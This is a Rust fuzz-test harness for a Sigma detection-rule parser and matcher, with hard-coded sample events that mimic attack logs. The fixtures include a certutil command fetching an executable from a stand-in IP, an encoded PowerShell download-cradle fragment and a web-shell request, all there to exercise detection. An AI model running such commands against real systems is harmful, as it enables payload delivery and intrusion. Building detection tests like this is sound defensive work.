//! Sigma rules: the YAML parser, the rule and correlation validation, the compiler into the
//! shared matcher, and evaluation, as `tiaki rules check` and `tiaki hunt` run them.
//!
//! Why evaluation too: a rule that compiles can still hold a regex, a CIDR, a wildcard or a
//! `base64offset` value that only misbehaves when matched, and correlations keep state
//! across events.

use std::sync::OnceLock;

use serde_json::{Value, json};
use tiaki_sigma::correlation::CorrelationEngine;
use tiaki_sigma::{Collection, EventSource, LoadOptions};

use crate::MAX_INPUT;

/// An event and the log source (product, category, service) it is routed to.
type Routed = (Value, [Option<&'static str>; 3]);

/// A few events of the shapes the readers produce, with the log source each is routed to.
fn events() -> &'static [Routed] {
    static EVENTS: OnceLock<Vec<Routed>> = OnceLock::new();
    EVENTS.get_or_init(|| {
        vec![
            (
                json!({
                    "EventID": 1, "Image": "C:\\Windows\\System32\\cmd.exe",
                    "CommandLine": "cmd.exe /c whoami /all & certutil -urlcache -f http://198.51.100.7/a.exe",
                    "ParentImage": "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
                    "User": "IIS APPPOOL\\DefaultAppPool", "IntegrityLevel": "High",
                    "Hashes": "MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=AA",
                    "ProcessId": 4242, "Computer": "PCO-WEB01", "DestinationIp": "2001:db8::7",
                    "Details": "DWORD (0x00000001)", "Initiated": true, "Missing": null,
                    "ScriptBlockText": "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
                    "nested": {"a": [1, "two", {"b": 3.5}]}
                }),
                [Some("windows"), Some("process_creation"), Some("sysmon")],
            ),
            (
                json!({
                    "cs-method": "POST", "cs-uri-stem": "/aspnet_client/system_web/shell.aspx",
                    "cs-uri-query": "cmd=whoami", "c-ip": "203.0.113.7", "sc-status": 200,
                    "cs(User-Agent)": "Mozilla/5.0+(compatible)", "date": "2021-03-15",
                    "time": "02:15:00"
                }),
                [None, Some("webserver"), None],
            ),
            (
                json!({
                    "EventID": 4624, "LogonType": 3, "TargetUserName": "svc_sql$",
                    "IpAddress": "10.1.2.3", "Channel": "Security", "Provider_Name":
                    "Microsoft-Windows-Security-Auditing"
                }),
                [Some("windows"), None, Some("security")],
            ),
        ]
    })
}

/// One Sigma file (several YAML documents: rules, filters, correlations): loaded, compiled,
/// its regular expressions compiled, matched against a few events with and without a log
/// source, and run through the correlation engine.
pub fn sigma_rule(data: &[u8]) {
    if data.len() > MAX_INPUT {
        return;
    }
    // Rule files are read as UTF-8 text (a file that is not is reported as unreadable).
    let Ok(text) = std::str::from_utf8(data) else {
        return;
    };
    let mut rules = Collection::new(LoadOptions::default());
    rules.add_source("fuzz.yml", text);
    for e in rules.errors() {
        let _ = e.to_string();
    }
    if crate::verbose() {
        eprintln!(
            "sigma_rule: {} rules, {} correlations, {} errors {:?}",
            rules.rule_count(),
            rules.correlation_count(),
            rules.errors().len(),
            rules
                .errors()
                .iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>()
        );
    }
    let compiled = rules.compile();
    let set = compiled.ruleset;
    let _ = set.compile_regexes();
    let _ = set.stats();
    for m in set.metas() {
        let _ = format!("{m:?}");
    }
    let mut engine = CorrelationEngine::new(&set).ok();
    let mut scratch = set.scratch();
    let mut hits = Vec::new();
    for (i, (event, [product, category, service])) in events().iter().enumerate() {
        let source = EventSource::new(*product, *category, *service);
        for src in [Some(&source), None] {
            hits.clear();
            set.matches(event, src, &mut scratch, &mut hits);
            if let Some(engine) = engine.as_mut() {
                let ts = 1_615_774_500_000 + 1000 * i as i64;
                let _ = engine.process(&set, event, ts, &hits);
            }
        }
    }
    if let Some(engine) = engine.as_mut() {
        engine.advance_to(i64::MAX / 2);
        let _ = engine.stats();
    }
}
